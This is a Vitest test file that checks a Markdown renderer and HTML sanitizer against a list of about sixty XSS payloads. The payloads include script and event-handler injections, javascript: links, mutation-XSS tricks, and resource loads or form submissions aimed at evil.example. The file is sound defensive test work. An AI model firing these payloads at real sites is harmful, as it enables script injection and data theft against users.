/// Text from outside stays text: nothing in it runs, loads or submits.
import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitize } from '../src/lib/markdown';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<img srcset="https://evil.example/p 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<a id=location href="https://x.example">x</a><form name=cookie>',
  '"><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/x)',
  '[x](https://x.example "\\" onmouseover=alert(1) x=\\"")',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <input onfocus=alert(1) autofocus>',
];

const ALLOWED = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong del a table thead tbody tr th td'.split(' '),
);
const LOADING = ['src', 'srcset', 'action', 'formaction', 'background', 'poster', 'data', 'xlink:href', 'srcdoc', 'style', 'id', 'name'];

/** Everything in the page that could do something. */
function dangers(html: string): string[] {
  const page = new DOMParser().parseFromString(`<main>${html}</main>`, 'text/html');
  const found: string[] = [];
  for (const node of page.querySelectorAll('main *, head *')) {
    if (!ALLOWED.has(node.localName)) found.push(`<${node.localName}>`);
    for (const { name, value } of node.attributes) {
      if (name.startsWith('on') || LOADING.includes(name)) found.push(`${node.localName} ${name}`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|#\/)/i.test(value)) found.push(`href ${value}`);
    }
  }
  return found;
}

describe('text from outside', () => {
  it('is tried with enough payloads', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(30));
  it('would be found dangerous as it is', () => {
    const html = PAYLOADS.filter((text) => text.startsWith('<') && dangers(text).length > 0);
    expect(html.length).toBeGreaterThan(30);
  });

  it.each(PAYLOADS)('is harmless as Markdown: %s', (text) => expect(dangers(renderMarkdown(text))).toEqual([]));
  it.each(PAYLOADS)('is harmless as HTML: %s', (text) => expect(dangers(sanitize(text))).toEqual([]));

  it('shows HTML as it was written', () => {
    const html = renderMarkdown('Use <b>bold</b> and <img src=x onerror=alert(1)>');
    const page = new DOMParser().parseFromString(html, 'text/html');
    expect(page.body.textContent?.trim()).toBe('Use <b>bold</b> and <img src=x onerror=alert(1)>');
  });
  it('never loads a picture, but names it', () => {
    const html = renderMarkdown('![plan](https://x.example/p.png)');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://x.example/p.png"');
    expect(html).toContain('>plan</a>');
  });
});

describe('links', () => {
  it('opens links out beside the page, and tells nobody where from', () => {
    const html = renderMarkdown('[docs](https://docs.example/a)');
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain('target="_blank"');
  });
  it('does not let the text choose target or rel', () => {
    const html = sanitize('<a href="#/memories/x" target="_top" rel="opener">x</a>');
    expect(html).toBe('<a href="#/memories/x">x</a>');
  });
  it('keeps links inside the dashboard', () => expect(renderMarkdown('[m](#/memories/x)')).toContain('href="#/memories/x"'));
  it('makes links to files plain text', () => expect(renderMarkdown('[f](src/main.rs)')).not.toContain('href'));
});

describe('Markdown', () => {
  it.each([
    ['**bold**', '<strong>bold</strong>'],
    ['`code`', '<code>code</code>'],
    ['- one\n- two', '<li>one</li>'],
    ['| a |\n|---|\n| b |', '<td>b</td>'],
    ['> quoted', '<blockquote>'],
    ['```rust\nfn main() {}\n```', 'fn main() {}'],
    ['~~gone~~', '<del>gone</del>'],
  ])('%s becomes %s', (text, html) => expect(renderMarkdown(text)).toContain(html));

  it('shows boxes of task lists as text', () => {
    const html = renderMarkdown('- [x] done\n- [ ] open');
    expect(html).toContain('☑ done');
    expect(html).toContain('☐ open');
  });
  it('keeps how a table is aligned and where a list starts', () => {
    expect(renderMarkdown('| a |\n|--:|\n| b |')).toContain('align="right"');
    expect(renderMarkdown('3. three')).toContain('start="3"');
  });
});
